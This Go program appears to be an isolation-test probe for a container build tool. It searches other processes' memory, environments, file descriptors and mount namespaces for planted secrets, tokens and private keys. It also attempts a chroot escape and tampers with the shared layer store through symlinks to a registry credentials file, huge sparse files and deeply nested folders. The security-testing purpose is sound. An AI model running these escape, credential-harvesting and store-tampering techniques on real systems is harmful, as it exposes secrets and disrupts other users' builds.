package main

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// mark begins every planted secret. It is put together here so that the program does not find
// itself.
func mark() string { return strings.Join([]string{"planted", "secret", ""}, "-") }

// needles are what the mark is in base64 wherever it begins, and what tokens and keys begin with.
// They are no constants, so that they are in no file of this program and in the memory of no other
// process of it.
func needles() map[string][]byte {
	token := []byte("iOicGbhJye") // backwards
	slices.Reverse(token)
	all := map[string][]byte{"a token": token, "a private key": []byte(strings.Join([]string{" PRIVATE", "KEY-----"}, " "))}
	for offset := range 3 {
		encoded := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", offset) + mark()))
		all["base64"+strings.Repeat("'", offset)] = []byte(encoded[(offset*8+5)/6 : len(encoded)-4])
	}
	return all
}

// maxFile is how much of a file or a piece of memory is read: far more than whatever could hold a
// secret.
const maxFile = 64 << 20

// hunter collects what was found: which secret, and where.
type hunter struct {
	mark    string
	needles map[string][]byte
	found   map[string]bool
	// seen are files that were read, by device and number: the same file is reached in many ways.
	seen map[[2]uint64]bool
	// looked counts what was read, by kind.
	looked map[string]int
}

// childMark is an argument for a process that waits with a secret in its environment and memory,
// for hunters to find.
const childMark = "--prey"

func main() {
	if os.Args[1] == childMark {
		_, _ = io.Copy(io.Discard, os.Stdin)
		return
	}
	work := hunt
	if how, isTampering := strings.CutPrefix(os.Args[1], tamperMark); isTampering {
		work = tamper
		os.Args[1] = how
	}
	if err := work(os.Args[1]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// tamperMark begins an argument that says what to do to the store, instead of looking for secrets.
const tamperMark = "--tamper="

// tamper leaves the root of the RUN line and changes the store that the steps of the build share.
// What steps with a secret read there would then be their secret, or never end.
func tamper(how string) error {
	runtime.LockOSThread()
	if err := errors.Join(unix.Unshare(unix.CLONE_FS), escape()); err != nil {
		return err
	}
	const store, secret = "/var/lib/layerwright/storage", "/etc/layerwright/credentials/.dockerconfigjson"
	layers, err := filepath.Glob(store + "/overlay/*/diff")
	if err != nil || len(layers) == 0 {
		return fmt.Errorf("there are no layers: %w", err)
	}
	for _, layer := range layers {
		dir := filepath.Dir(layer)
		switch how {
		case "links": // which the library takes for the names of layers
			for _, name := range []string{"lower-layers", "lower", "link"} {
				err = errors.Join(err, replace(filepath.Join(dir, name), func(f string) error { return os.Symlink(secret, f) }))
			}
		case "giants":
			err = errors.Join(err, replace(filepath.Join(dir, "lower-layers"), giant), deep(dir))
		case "lists":
		default:
			return fmt.Errorf("nothing is known of %q", how)
		}
	}
	if how == "lists" { // of the whole store, with the locks that are opened first
		lists, _ := filepath.Glob(store + "/overlay-*/*.json") // the patterns are fine
		locks, _ := filepath.Glob(store + "/*.lock")
		for _, file := range slices.Concat(lists, locks) {
			err = errors.Join(err, replace(file, func(f string) error { return os.Symlink(secret, f) }))
		}
	}
	return err
}

func replace(file string, with func(file string) error) error {
	if err := os.RemoveAll(file); err != nil {
		return err
	}
	return with(file)
}

// giant is a sparse file that says to have a terabyte.
func giant(file string) error {
	f, err := os.Create(file)
	if err != nil {
		return err
	}
	return errors.Join(f.Truncate(1<<40), f.Close())
}

// deep makes folders in folders, deeper than a path can name.
func deep(dir string) error {
	if err := os.Chdir(dir); err != nil {
		return err
	}
	for range 3000 {
		if err := errors.Join(os.Mkdir("deep", 0o755), os.Chdir("deep")); err != nil {
			return err
		}
	}
	return os.Chdir("/")
}

// hunt looks everywhere and writes what was found to a file.
func hunt(report string) error {
	runtime.LockOSThread() // root and mount namespace are to be this thread's own: the kernel lets no one enter one that shares them
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return err
	}
	prey := exec.Command("/proc/self/exe", childMark)
	prey.Env = []string{"PREY=" + mark() + "environ"}
	stdin, err := prey.StdinPipe()
	if err == nil {
		err = prey.Start()
	}
	if err != nil {
		return err
	}
	defer func() {
		_ = stdin.Close()
		_ = prey.Wait()
	}()
	out, err := os.Create(report)
	if err != nil {
		return err
	}
	defer func() { _ = out.Close() }()
	h := &hunter{mark: mark(), needles: needles(), found: map[string]bool{}, seen: map[[2]uint64]bool{}, looked: map[string]int{}}
	h.processes()
	h.files("/", "")
	h.sockets()
	if err := escape(); err != nil {
		h.found["stayed inside: "+err.Error()] = true
	} else {
		h.found["got outside"] = true
		h.files("/", "outside:")
	}
	for _, line := range slices.Sorted(maps.Keys(h.found)) {
		_, _ = fmt.Fprintln(out, line)
	}
	for _, kind := range slices.Sorted(maps.Keys(h.looked)) {
		_, _ = fmt.Fprintf(out, "looked %s %d\n", kind, h.looked[kind])
	}
	return nil
}

// search notes the secrets in some content.
func (h *hunter) search(where string, content []byte) {
	for rest := content; ; {
		at := bytes.Index(rest, []byte(h.mark))
		if at < 0 {
			break
		}
		rest = rest[at+len(h.mark):]
		end := bytes.IndexFunc(rest, func(r rune) bool { return (r < 'a' || r > 'z') && r != '-' })
		if end < 0 {
			end = len(rest)
		}
		if end > 0 { // the mark alone is this program's
			h.found["found "+string(rest[:end])+" "+where] = true
		}
	}
	for what, needle := range h.needles {
		if bytes.Contains(content, needle) {
			h.found["found "+what+" "+where] = true
		}
	}
}

// files reads every file below a folder, but not what the kernel makes up.
func (h *hunter) files(root, label string) {
	_ = filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			return nil //nolint:nilerr // what can't be read is not found
		}
		if entry.IsDir() {
			var about unix.Statfs_t
			if err := unix.Statfs(path, &about); err == nil && (about.Type == unix.PROC_SUPER_MAGIC || about.Type == unix.SYSFS_MAGIC) {
				return fs.SkipDir
			}
			return nil
		}
		if entry.Type().IsRegular() {
			h.file(path, label+path)
		}
		return nil
	})
}

func (h *hunter) file(path, where string) {
	var about unix.Stat_t
	if unix.Stat(path, &about) != nil || h.seen[[2]uint64{about.Dev, about.Ino}] {
		return
	}
	f, err := os.Open(path)
	if err != nil {
		return
	}
	defer func() { _ = f.Close() }()
	content, err := io.ReadAll(io.LimitReader(f, maxFile))
	if err != nil && len(content) == 0 {
		return
	}
	h.seen[[2]uint64{about.Dev, about.Ino}] = true
	h.looked["files"]++
	h.search(where, content)
}

// processes looks into every other process: its environment, its memory, its files, its root, and
// its mount namespace.
func (h *hunter) processes() {
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range append(pids, "/proc/self") {
		pid := filepath.Base(dir)
		if pid == strconv.Itoa(os.Getpid()) {
			continue
		}
		h.looked["processes"]++
		for _, file := range []string{"environ", "cmdline", "mountinfo"} {
			if content, err := os.ReadFile(filepath.Join(dir, file)); err == nil {
				if file == "environ" {
					h.looked["environments"]++
				}
				h.search(name(dir)+"/"+file, content)
			}
		}
		if pid == "self" {
			continue
		}
		h.memory(dir)
		for _, link := range []string{"root", "cwd"} {
			if entries, err := os.ReadDir(filepath.Join(dir, link)); err == nil && len(entries) > 0 {
				h.looked["roots"]++
				h.files(filepath.Join(dir, link)+"/", "")
			}
		}
		descriptors, _ := filepath.Glob(filepath.Join(dir, "fd", "*"))
		for _, descriptor := range descriptors {
			var about unix.Stat_t
			if err := unix.Stat(descriptor, &about); err == nil && about.Mode&unix.S_IFMT == unix.S_IFREG {
				h.file(descriptor, name(dir)+"/fd")
			}
		}
		h.namespace(dir)
	}
	if keys, err := os.ReadFile("/proc/keys"); err == nil {
		h.search("/proc/keys", keys)
	}
}

// namespace enters the mount namespace of a process, reads what is there, and comes back.
func (h *hunter) namespace(dir string) {
	own, err := os.Open("/proc/thread-self/ns/mnt")
	if err != nil {
		return
	}
	defer func() { _ = own.Close() }()
	root, err := os.Open("/")
	if err != nil {
		return
	}
	defer func() { _ = root.Close() }()
	other, err := os.Open(filepath.Join(dir, "ns", "mnt"))
	if err != nil {
		return
	}
	defer func() { _ = other.Close() }()
	called := name(dir)
	if unix.Setns(int(other.Fd()), unix.CLONE_NEWNS) != nil {
		return
	}
	h.looked["namespaces"]++
	h.files("/", called+":")
	if err := errors.Join(unix.Setns(int(own.Fd()), unix.CLONE_NEWNS), unix.Fchdir(int(root.Fd())), unix.Chroot(".")); err != nil {
		h.found["lost "+err.Error()] = true
	}
}

// name is a process by its command, which is the same in every run.
func name(dir string) string {
	command, err := os.ReadFile(filepath.Join(dir, "comm"))
	if err != nil {
		return "a process"
	}
	return strings.TrimSpace(string(command))
}

// memory reads what a process has in its memory.
func (h *hunter) memory(dir string) {
	list, err := os.Open(filepath.Join(dir, "maps"))
	if err != nil {
		return
	}
	defer func() { _ = list.Close() }()
	memory, err := os.Open(filepath.Join(dir, "mem"))
	if err != nil {
		return
	}
	defer func() { _ = memory.Close() }()
	h.looked["memories"]++
	for lines := bufio.NewScanner(list); lines.Scan(); {
		var from, to uint64
		var rights string
		if _, err := fmt.Sscanf(lines.Text(), "%x-%x %s", &from, &to, &rights); err != nil || !strings.HasPrefix(rights, "rw") {
			continue
		}
		content := make([]byte, min(to-from, maxFile))
		n, _ := memory.ReadAt(content, int64(from))
		h.search(name(dir)+"/mem", content[:max(n, 0)])
	}
}

// sockets lists the sockets that have a name, wherever they are.
func (h *hunter) sockets() {
	list, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return
	}
	for line := range strings.Lines(string(list)) {
		if fields := strings.Fields(line); len(fields) > 7 && fields[0] != "Num" {
			h.found["socket "+fields[7]] = true
		}
	}
}

// escape leaves a root that was changed with chroot: whoever may change it again, and keeps a
// folder outside open, can go up from there.
func escape() error {
	const inner = "/tmp/inner"
	was, err := os.Open("/")
	if err != nil {
		return err
	}
	defer func() { _ = was.Close() }()
	var before, after unix.Stat_t
	if err := errors.Join(unix.Stat("/", &before), os.MkdirAll(inner, 0o700), unix.Chroot(inner), unix.Fchdir(int(was.Fd()))); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := errors.Join(unix.Chroot("."), unix.Stat("/", &after)); err != nil {
		return err
	}
	if before.Dev == after.Dev && before.Ino == after.Ino {
		return errors.New("there is nothing above")
	}
	return nil
}
